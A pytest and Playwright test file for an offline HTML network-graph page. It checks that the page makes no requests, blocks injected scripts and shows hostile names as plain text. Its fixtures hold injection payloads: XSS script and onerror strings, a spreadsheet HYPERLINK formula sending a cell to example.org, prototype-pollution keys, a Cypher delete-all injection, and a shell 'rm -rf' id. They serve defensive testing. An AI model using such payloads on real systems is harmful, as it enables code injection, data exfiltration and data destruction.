"""The network page as a reader meets it: a real browser, a real mouse, no network.

Every test also fails on any request and any message in the console (see `open_page`). Figures are worked out from
the introduction in conftest: the chamber has 26 connections, two lines in the picture and four folded.
"""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from tests.browser.hand import Opener, click, double_click, find, panel_name, place, state

from referralgraph.render.network_page import network_page, write_network_page


class TestSealed:
    """Nothing leaves the page and nothing in it runs but the page."""

    def test_a_request_is_refused_even_when_asked_for(self, browser: Browser, tmp_path: Path, make: Any) -> None:
        asked: list[str] = []

        class Listener(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                """Keep the test's output clean."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            file = tmp_path / "network.html"
            write_network_page(make.introduction(), file)
            page = browser.new_page()
            page.goto(file.as_uri())
            page.wait_for_selector("body[data-state=ready]")
            refused = page.evaluate(
                """async (url) => {
                    const image = new Promise((done) => {
                        const made = new Image();
                        made.onload = () => done(false);
                        made.onerror = () => done(true);
                        made.src = url + "image";
                    });
                    const fetched = fetch(url + "fetch", { mode: "no-cors" }).then(() => false, () => true);
                    return [await image, await fetched, !navigator.sendBeacon(url + "beacon")];
                }""",
                f"http://127.0.0.1:{server.server_port}/",
            )
            page.close()
        finally:
            server.shutdown()
            thread.join()
            server.server_close()
        assert refused[:2] == [True, True]
        assert asked == []

    def test_no_script_but_the_page_s_own_can_run(self, browser: Browser, tmp_path: Path, make: Any) -> None:
        file = tmp_path / "network.html"
        write_network_page(make.introduction(), file)
        page = browser.new_page()
        page.goto(file.as_uri())
        page.wait_for_selector("body[data-state=ready]")
        # Put into the document as a page's own script would be: what evaluate itself runs is not under the policy.
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.__pwned = 'script'";
                document.body.append(script);
                document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.__pwned = 1'>");
            }"""
        )
        page.wait_for_timeout(200)
        assert page.evaluate("window.__pwned") is None
        page.close()

    def test_it_names_no_address_that_a_browser_would_load(self, make: Any) -> None:
        html = network_page(make.introduction())
        policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)
        assert policy is not None
        assert "default-src 'none'" in policy[1]
        assert "unsafe" not in policy[1]
        assert "http" not in policy[1]
        loaded = re.findall(r"""<(?:script|link|img|iframe|source)\b[^>]*\b(?:src|href)\s*=\s*["']([^"']*)""", html)
        assert loaded == ["data:,"]
        assert "@import" not in html

    def test_the_same_answer_gives_the_same_file(self, make: Any) -> None:
        assert network_page(make.introduction()) == network_page(make.introduction())


HOSTILE = [
    "</script><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "__proto__",
    "constructor",
    'O\'Brien "The" & Söhne {n} {a} {{ 7*7 }} {% raw %}',
    "شركة الأفق للتجارة والمقاولات",
    "\u202egnitsixe toN\u202c Ltd",
    "👩‍👩‍👧‍👦 Bunte Familie 🎉",
    "W" * 10_000,
    "sehr " * 2_000,
    "--> <!-- <script>",
    "<!-- <script type=text/javascript ",
    "</script / x='",
    "line\nbreak\ttab \x07bell",
    "'; MATCH (n) DETACH DELETE n //",
]


class TestNames:
    """Names are other people's text: they stay names, whatever they hold."""

    @pytest.fixture
    def page(self, open_page: Opener, make: Any) -> Page:
        nodes = [make.person("centre", "<b>Centre</b>", role="me", connections=20)]
        edges = []
        for index, name in enumerate(HOSTILE):
            build = make.body if index % 2 else make.person
            nodes.append(build(name, name, details=(name,), flags=(name,) if index % 3 == 0 else ()))
            row = {"source": name, "file": name, "line": 7, "as_written": name}
            edges.append(make.line(f"{index}", "centre", name, name, reasons=(name,), sources=(row,), since=name))
        path = {"nodes": ("centre", HOSTILE[0]), "edges": ("0",), "strength": 0.3, "words": HOSTILE[1]}
        return open_page(make.network(nodes, edges, (path,), title="".join(HOSTILE[:2])))

    def test_each_is_shown_whole_and_nothing_runs(self, page: Page) -> None:
        page.click("#fit")
        for name in HOSTILE:
            click(page, name)
            assert panel_name(page) == name
        assert page.evaluate("window.__pwned") is None
        assert page.locator("img, iframe, #panel b, #panel script, header script").count() == 0
        assert page.title() == '</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'
        assert page.evaluate("({}).polluted") is None

    def test_a_line_says_its_hostile_label_and_sources_as_text(self, page: Page) -> None:
        click(page, HOSTILE[0])
        page.locator("#selection details details summary").first.click()
        shown = page.locator("#selection").text_content() or ""
        assert f"{HOSTILE[0]}, {HOSTILE[0]}, line 7; as written: {HOSTILE[0]}" in shown

    def test_a_name_of_10_000_letters_wraps_in_the_panel_and_is_short_in_the_picture(self, page: Page) -> None:
        page.click("#fit")
        click(page, "W" * 10_000)
        name = page.locator("#selection .name")
        assert name.evaluate("(made) => made.scrollWidth <= made.clientWidth")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert all(label["w"] < 260 for label in state(page, "labels"))

    def test_a_direction_override_ends_with_its_name(self, page: Page) -> None:
        page.click("#fit")
        click(page, HOSTILE[7])
        assert page.locator("#selection .name > bdi").text_content() == HOSTILE[7]


class TestUnfolding:
    """A badge counts what isn't in the picture; a double click brings it and takes it away."""

    def test_a_double_click_unfolds_and_the_next_folds(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        before = state(page, "visible")
        assert state(page, "badge", "chamber") == "+24"
        double_click(page, "chamber")
        assert set(state(page, "visible")) - set(before) == {"c1", "c2", "c3", "c4"}
        assert state(page, "badge", "chamber") == "+20"
        double_click(page, "chamber")
        assert state(page, "visible") == before
        assert state(page, "badge", "chamber") == "+24"

    def test_unfolded_names_stand_clear_of_all_others(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        double_click(page, "chamber")
        places = {node: place(page, node) for node in state(page, "visible")}
        for brought in ("c1", "c2", "c3", "c4"):
            x, y = places[brought]
            nearest = min(
                ((x - other_x) ** 2 + (y - other_y) ** 2) ** 0.5
                for node, (other_x, other_y) in places.items()
                if node != brought
            )
            assert nearest > 40

    def test_folding_takes_along_what_came_through_it(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        before = state(page, "visible")
        double_click(page, "chamber")
        double_click(page, "c1")
        assert "deep" in state(page, "visible")
        double_click(page, "chamber")
        assert state(page, "visible") == before

    def test_a_node_with_everything_unfolded_says_that_it_can_be_folded(self, open_page: Opener, make: Any) -> None:
        nodes = [make.body("b", "Werft GmbH", connections=2), make.person("p", "Ada Holm"), make.person("q", "Bo Lind")]
        nodes[2] = nodes[2].model_copy(update={"hidden": True})
        page = open_page(make.network(nodes, [make.line("1", "p", "b"), make.line("2", "q", "b")]))
        assert (state(page, "badge", "b"), state(page, "badge", "p")) == ("+1", "")
        double_click(page, "b")
        assert state(page, "badge", "b") == "−"

    def test_the_panel_says_what_is_not_in_the_file_and_how_to_see_it(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        click(page, "chamber")
        shown = page.locator("#selection").inner_text()
        assert "Connections: 26 (in the picture: 2; folded in this file: 4; not in this file: 20)" in shown
        assert page.locator("#selection code").inner_text() == "referralgraph network chamber --html FILE"

    def test_the_command_quotes_an_id_for_the_shell(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.network([make.person("a; rm -rf '~'", "Ada Holm", connections=3)], []))
        click(page, "a; rm -rf '~'")
        command = page.locator("#selection code").inner_text()
        assert command == """referralgraph network 'a; rm -rf '"'"'~'"'"'' --html FILE"""

    def test_the_panel_s_buttons_do_the_same_without_a_mouse_on_the_picture(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.introduction())
        find(page, "handwerkskammer")
        page.click("#unfold")
        assert "c3" in state(page, "visible")
        page.click("#fold")
        assert "c3" not in state(page, "visible")

    def test_a_line_to_somebody_who_is_not_in_the_file_is_counted_only(self, open_page: Opener, make: Any) -> None:
        page = open_page(make.network([make.person("a", "Ada Holm", connections=1)], [make.line("1", "a", "gone")]))
        assert state(page, "badge", "a") == "+1"
